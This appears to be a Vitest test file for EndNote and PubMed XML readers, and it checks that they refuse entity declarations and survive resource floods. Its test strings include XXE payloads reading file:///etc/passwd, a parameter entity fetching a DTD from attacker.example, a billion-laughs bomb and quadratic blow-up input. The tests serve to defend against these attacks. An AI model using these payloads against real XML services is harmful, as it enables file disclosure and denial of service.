import { describe, expect, test } from "vitest";
import { endnoteXmlReader } from "../../src/records/formats/xml/endnote-xml.ts";
import { pubmedXmlReader } from "../../src/records/formats/xml/pubmed-xml.ts";
import { type Reading, readAll } from "./xml-reading.ts";

const MB = 1024 * 1024;
const SOUND = "<record><titles><title>T</title></titles></record>";
const file = (head: string, title = "&x;") =>
  `<?xml version="1.0"?>\n${head}\n<xml><records><record><titles><title>${title}</title></titles></record></records></xml>\n`;

/** Repeats a text in pieces of about 64 KiB, so that the attack itself needs no memory. */
function* flood(before: string, text: string, times: number, after: string): Generator<string> {
  yield before;
  const per = Math.max(1, Math.floor(65_536 / text.length));
  const piece = text.repeat(per);
  for (let left = times; left > 0; left -= per) yield left >= per ? piece : text.repeat(left);
  yield after;
}

/** Reads within a second of processor time and 200 MB; floods that are read, not refused, get longer. */
function bounded(
  pieces: string | Iterable<string>,
  { seconds = 1, reader = endnoteXmlReader } = {},
): Reading {
  const before = process.memoryUsage().rss;
  const started = process.cpuUsage();
  const reading = readAll(reader, pieces);
  const used = process.cpuUsage(started);
  expect((used.user + used.system) / 1e6).toBeLessThan(seconds);
  expect((process.memoryUsage().rss - before) / MB).toBeLessThan(200);
  const { total, blank, kept, outside } = reading.summary.lines;
  expect(blank + kept + outside).toBe(total);
  return reading;
}

const codes = ({ problems }: Reading) => problems.map(({ code, line }) => [code, line]);

describe("document types", () => {
  const refused = [
    ["entity", '<!DOCTYPE xml [ <!ENTITY x "y"> ]>'],
    ["external entity", '<!DOCTYPE xml [ <!ENTITY x SYSTEM "file:///etc/passwd"> ]>'],
    ["parameter entity", '<!DOCTYPE xml [ <!ENTITY % p SYSTEM "http://attacker.example/p.dtd"> %p; ]>'],
    ["reference to a parameter entity", "<!DOCTYPE xml [ %p; ]>"],
    ["external subset in a file", '<!DOCTYPE xml SYSTEM "file:///etc/passwd">'],
    ["external subset by a path", "<!DOCTYPE xml SYSTEM '/etc/passwd'>"],
    [
      "public type with declarations",
      '<!DOCTYPE xml PUBLIC "-//X//Y" "http://example.org/y.dtd" [ <!ELEMENT xml ANY> ]>',
    ],
    ["entity behind a comment", '<!DOCTYPE xml [ <!-- ]> --> <!ENTITY x "y"> ]>'],
    ["entity without end", '<!DOCTYPE xml [ <!ENTITY x "y"'],
    ["entity beyond the limit", `<!DOCTYPE xml [ ${" ".repeat(20_000)} <!ENTITY x "y"> ]>`],
    ["lower case", '<!doctype xml [ <!entity x "y"> ]>'],
  ] as const;

  test.each(refused)("%s: nothing is read", (_name, head) => {
    const reading = bounded(file(head));
    expect(reading.records).toEqual([]);
    expect(codes(reading)).toEqual([
      ["records/xml-entity-refused", 2],
      ["records/no-records", undefined],
    ]);
    expect(JSON.stringify(reading.problems)).not.toContain("root:");
  });

  const harmless = [
    ["public", '<!DOCTYPE xml PUBLIC "-//NLM//DTD X//EN" "https://dtd.nlm.nih.gov/x.dtd">'],
    ["system address", '<!DOCTYPE xml SYSTEM "http://www.example.org/x.dtd">'],
    ["system name", '<!DOCTYPE xml SYSTEM "RSXML.dtd">'],
    ["elements only", "<!DOCTYPE xml [ <!ELEMENT xml (records)> ]>"],
    ["none", ""],
  ] as const;

  test.each(harmless)("%s: read, and nothing fetched", (_name, head) => {
    const { records, problems } = bounded(file(head, "T"));
    expect(records.map(({ title }) => title)).toEqual(["T"]);
    expect(problems).toEqual([]);
  });

  test("a type in the middle of the file ends the reading there", () => {
    const text = `${file("", "first")}${file('<!DOCTYPE xml [<!ENTITY x "y">]>')}`;
    const { records, problems } = readAll(endnoteXmlReader, text);
    expect(records.map(({ title }) => title)).toEqual(["first"]);
    expect(problems.map(({ code }) => code)).toEqual(["records/xml-entity-refused"]);
  });

  test("an entity declared inside a record is text", () => {
    const { records } = readAll(endnoteXmlReader, file("", '<!ENTITY x "boom">&x;'));
    expect(records[0]?.title).toContain("&x;");
  });
});

describe("floods", () => {
  test("billion laughs", () => {
    const entities = Array.from(
      { length: 9 },
      (_, i) => `<!ENTITY l${i + 1} "${`&l${i};`.repeat(10)}">`,
    ).join("\n");
    const reading = bounded(file(`<!DOCTYPE lolz [\n<!ENTITY l0 "lol">\n${entities}\n]>`, "&l9;"));
    expect(reading.records).toEqual([]);
    expect(codes(reading)[0]).toEqual(["records/xml-entity-refused", 2]);
  });

  test("quadratic blow-up", () => {
    const big = flood(
      '<!DOCTYPE x [<!ENTITY a "',
      "a",
      1_000_000,
      '">]><xml><records><record><titles><title>',
    );
    const reading = bounded(
      (function* () {
        yield* big;
        yield* flood("", "&a;", 50_000, "</title></titles></record></records></xml>");
      })(),
    );
    expect(reading.records).toEqual([]);
    expect(codes(reading)[0]).toEqual(["records/xml-entity-refused", 1]);
  });

  test("a million nested tags in a record: the record is refused, the next is read", () => {
    const reading = bounded(
      flood("<xml><records>\n<record>", "<a>", 1_000_000, `</record>\n${SOUND}</records></xml>`),
    );
    expect(reading.records.map(({ title }) => title)).toEqual(["T"]);
    expect(codes(reading)).toEqual([["records/xml-refused", 2]]);
  });

  test("a million nested tags that are not even sound", () => {
    const reading = bounded(
      flood("<xml><records>\n<record>&<a>", "<a>", 1_000_000, `</a></record>\n${SOUND}</records></xml>`),
    );
    expect(reading.records.map(({ title }) => title)).toEqual(["T"]);
  });

  test("a million nested tags around records: the file is refused from there on", () => {
    const reading = bounded(flood("<xml>\n", "<a>", 1_000_000, SOUND));
    expect(reading.records).toEqual([]);
    expect(codes(reading)[0]).toEqual(["records/xml-limit", 2]);
  });

  test("an attribute of 100 MB in a record, around records, in the record's own tag", () => {
    const a = "a".repeat(1024);
    const inside = bounded(
      flood('<xml><records>\n<record><titles x="', a, 102_400, `"/></record>\n${SOUND}</records></xml>`),
    );
    expect(inside.records.map(({ title }) => title)).toEqual(["T"]);
    expect(codes(inside)).toEqual([["records/xml-limit", 2]]);
    const own = bounded(
      flood('<xml><records>\n<record x="', a, 102_400, `"></record>\n${SOUND}</records></xml>`),
    );
    expect(own.records.map(({ title }) => title)).toEqual(["T"]);
    expect(codes(own)).toEqual([["records/xml-limit", 2]]);
    const around = bounded(flood('<xml>\n<records x="', a, 102_400, `">${SOUND}</records></xml>`));
    expect(around.records).toEqual([]);
    expect(codes(around)[0]).toEqual(["records/xml-limit", 2]);
  });

  test("a comment, a CDATA section, a name and a text of 100 MB", () => {
    const a = "a".repeat(1024);
    for (const opener of ["<!--", "<![CDATA[", "<?", "<", "", "</", "&"]) {
      const reading = bounded(
        flood(`<xml><records>\n<record>${opener}`, a, 102_400, `</record>\n${SOUND}</records></xml>`),
      );
      expect(reading.records.map(({ title }) => title)).toEqual(["T"]);
      expect(codes(reading)).toEqual([["records/xml-limit", 2]]);
    }
  });

  test("a record of 100 MB in many elements", () => {
    const reading = bounded(
      flood(
        "<xml><records>\n<record>",
        `<a>${"b".repeat(1000)}</a>`,
        100_000,
        `</record>\n${SOUND}</records></xml>`,
      ),
    );
    expect(reading.records.map(({ title }) => title)).toEqual(["T"]);
    expect(codes(reading)).toEqual([["records/xml-limit", 2]]);
  });

  test("a million elements", () => {
    const many = bounded(
      flood("<xml><records>\n<record>", "<a/>", 1_000_000, `</record>\n${SOUND}</records></xml>`),
      { seconds: 5 },
    );
    expect(many.records.map(({ title }) => title)).toEqual(["T"]);
    expect(codes(many)).toEqual([["records/xml-refused", 2]]);
  });

  test.each([
    "<!--",
    "<![CDATA[",
    "<?",
    "<",
    "&",
    "</",
    "<record",
    "<a b='",
    "]]>",
    "<!DOCTYPE ",
    "<![CDATA[<!--",
  ])("%s, thirty thousand times", (text) => {
    const read = (before: string, after: string) =>
      bounded(flood(before, text, 30_000, after), { seconds: 5 });
    read("<xml><records>\n<record>", `</record>\n${SOUND}</records></xml>`);
    read("<xml>", `<records>${SOUND}</records></xml>`);
    read("<xml><records>\n<record>", `-->]]>?></record><record><!--</record>\n${SOUND}</records></xml>`);
  });

  test.each(["<record>", "</record><record><!--", "</record><record><![CDATA["])(
    "%s, two thousand times: as many records",
    (text) => {
      const { records } = bounded(
        flood("<xml><records>\n<record>", text, 2000, `</record>\n${SOUND}</records></xml>`),
        { seconds: 5 },
      );
      expect(records).toHaveLength(2002);
    },
  );

  test("the same in PubMed's elements", () => {
    const reading = bounded(
      flood("<PubmedArticleSet>\n<PubmedArticle>", "<a>", 1_000_000, "</PubmedArticle></PubmedArticleSet>"),
      { reader: pubmedXmlReader },
    );
    expect(codes(reading)[0]).toEqual(["records/xml-refused", 2]);
  });

  test("a file of 20 MB passes in the memory of a record", () => {
    const record = `<record><titles><title>${"word ".repeat(400)}</title></titles></record>\n`;
    const before = process.memoryUsage().rss;
    let peak = 0;
    let count = 0;
    const reader = endnoteXmlReader.entries(flood("<xml><records>\n", record, 10_000, "</records></xml>"));
    for (const step of reader) {
      if ("entry" in step) count += 1;
      if (count % 1000 === 0) peak = Math.max(peak, process.memoryUsage().rss - before);
    }
    expect(count).toBe(10_000);
    expect(peak / MB).toBeLessThan(200);
  });
});
